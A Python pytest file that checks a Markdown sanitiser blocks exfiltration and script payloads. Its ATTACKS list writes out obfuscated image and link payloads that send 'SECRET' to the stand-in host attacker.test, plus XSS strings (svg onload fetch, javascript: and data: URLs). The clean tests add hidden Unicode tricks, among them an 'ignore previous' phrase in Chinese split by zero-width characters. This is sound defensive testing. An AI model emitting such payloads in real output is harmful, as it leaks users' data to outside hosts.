"""What is shown deceives nobody and loads nothing. The judge of links is a Markdown parser, not our own patterns."""

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onebox.engine.execute.trust.sanitise import clean, neutralised

EVIL = "attacker.test"
ATTACKS = [
    f"![x](http://{EVIL}/p.png?q=SECRET)",
    f"![x](<http://{EVIL}/p.png>)",
    f'![x](http://{EVIL}/p.png "title")',
    f"![x](//{EVIL}/p.png)",
    f"![x](\\\\{EVIL}/p.png)",
    f"![x](/\\{EVIL}/p.png)",
    f"![x][r]\n\n[r]: http://{EVIL}/p.png",
    f"[r]\n\n[r]: <http://{EVIL}/> 'x'",
    f"[点这里](http&#58;//{EVIL}/)",
    f"[点这里](&#104;ttp&#x3a;//{EVIL}/)",
    f"[x](http\\://{EVIL}/)",
    f"[x](http:\\/\\/{EVIL}/)",
    f"[x](\nhttp://{EVIL}/)",
    f"<http://{EVIL}/auto>",
    f"http://{EVIL}/bare?q=SECRET",
    f"www.{EVIL}/bare",
    f"<img src=http://{EVIL}/p.png>",
    f"<IMG\nSRC='//{EVIL}/p.png'>",
    f"<a href='javascript:fetch(\"//{EVIL}\")'>x</a>",
    f"<svg onload=fetch('//{EVIL}')>",
    f"<style>@import '//{EVIL}/x.css'</style>",
    f"<!-- --><img src=//{EVIL}>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:x)",
    f"[x](mailto:eve@{EVIL}?body=SECRET)",
    f"- a\n\n  ```\n![x](http://{EVIL}/)",
    f"a ` b\n` ![x](http://{EVIL}/) `",
    f"> ```\n![x](http://{EVIL}/)",
    f"```\ncode\n```\n![x](http://{EVIL}/)",
    f"~~~\n```\n~~~\n![x](http://{EVIL}/)",
    f"```\n   ```\n![x](http://{EVIL}/)",
    f"[![x](http://{EVIL}/i.png)](http://{EVIL}/)",
    f"[a]: http://{EVIL}/\n![a]",
    f"&lt;img src=http://{EVIL}/p.png&gt;",
    f"&amp;lt;img src=http://{EVIL}/p.png&amp;gt;",
    f"![x](h\u200bttp://{EVIL}/)",
    f"![x](http:/\u200b/{EVIL}/)",
    f"[x](ftp://{EVIL}/)",
    f"[x](/%5c{EVIL})",
]


def foreign(text: str) -> list[str]:
    """What a renderer would load, follow or run: addresses with a host or a scheme, and raw HTML."""
    markdown = pytest.importorskip("markdown_it", reason="the extra `serve` is not installed")
    found = []
    parser = markdown.MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda _: True
    for token in (inner for outer in parser.parse(text) for inner in (outer, *(outer.children or ()))):
        if token.type in ("html_inline", "html_block"):
            found.append(token.content)
        address = str(token.attrGet("href") or token.attrGet("src") or "")
        if (
            "://" in address
            or address.startswith(("//", "\\", "/\\", "/%5C", "/%5c"))
            or ":" in address.partition("/")[0]
        ):
            found.append(address)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_loaded_followed_or_run(attack: str) -> None:
    for text in (attack, f"前文。{attack}后文。", f"* 一\n* {attack}\n", f"| a |\n|---|\n| {attack} |"):
        shown = neutralised(text)
        assert foreign(shown) == []


PIECES = [
    *"[]()!<>`~:/\\&#;\"' \n\t-*>|",
    "http", "https:", "//", EVIL, "javascript:", "data:", "www.", "![", "](", "```", "~~~", "&#58;", "&colon;",
    "&#x2f;", "<img src=", "<a href=", "\\:", "\\/", "  ", "- ", "> ", "[r]:", "甲", "\u200b", "\r", "\x1b[31m",
    "&lt;", "&amp;",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=24))
@settings(max_examples=400, deadline=None)
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    assert foreign(neutralised("".join(pieces))) == []


@given(st.lists(st.sampled_from(PIECES), max_size=16))
@settings(max_examples=100, deadline=None)
def test_twice_is_safe_too(pieces: list[str]) -> None:
    assert foreign(neutralised(neutralised("".join(pieces)))) == []


def test_honest_markdown_stays() -> None:
    table = "| a | b |\n|---|---|\n| 1 < 2 | x |\n"
    text = "# 标题\n\n**粗** 和 `code`，[报告](files/report.docx) ![图](chart.png)\n\n" + table
    assert neutralised(text) == text
    code = '```python\nrequests.get("https://example.org/a?b=1")\n```'
    assert neutralised(code) == code


def test_addresses_that_code_vouches_for_stay_whole() -> None:
    source = "https://example.org/a?b=1"
    text = f"见 {source}，和 [原文]({source})。也见 https://example.org/a?b=12 。"
    assert neutralised(text, {source}) == f"见 {source}，和 [原文]({source})。也见 https[:]//example.org/a?b=12 。"
    assert foreign(neutralised(f"![x]({source})", {source})) == []


def test_the_host_is_shown_and_what_is_carried_is_not() -> None:
    shown = neutralised(f"[click](https://{EVIL}/?q={'s' * 200})")
    assert shown == f"click (https[:]//{EVIL}/…)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("a\x1b]8;;http://x\x07link\x1b]8;;\x07", "alink"),
        ("a\x1b]0;title", "a"),
        ("one\rtwo\x08\x00", "one\ntwo"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("忽\u200b略\u2060之\ufeff前", "忽略之前"),
        ("a" + "".join(chr(0xE0000 + ord(one)) for one in "hidden"), "a"),
        ("x\U000e0100\U000e0101", "x"),
        ("👩\u200d💻 ❤️ 1️⃣", "👩\u200d💻 ❤️ 1️⃣"),
        ("甲\u200d乙\ufe0f", "甲乙"),
        ("\ue000\uffff\ud800", ""),
        ("a\u2028b", "a\nb"),
    ],
)
def test_clean(text: str, shown: str) -> None:
    assert clean(text) == shown


@given(st.text(max_size=60))
def test_clean_leaves_only_what_is_seen(text: str) -> None:
    shown = clean(text)
    assert clean(shown) == shown
    assert not {unicodedata.category(one) for one in shown if one not in "\n\t\u200d"} & {"Cc", "Cf", "Cs", "Co"}
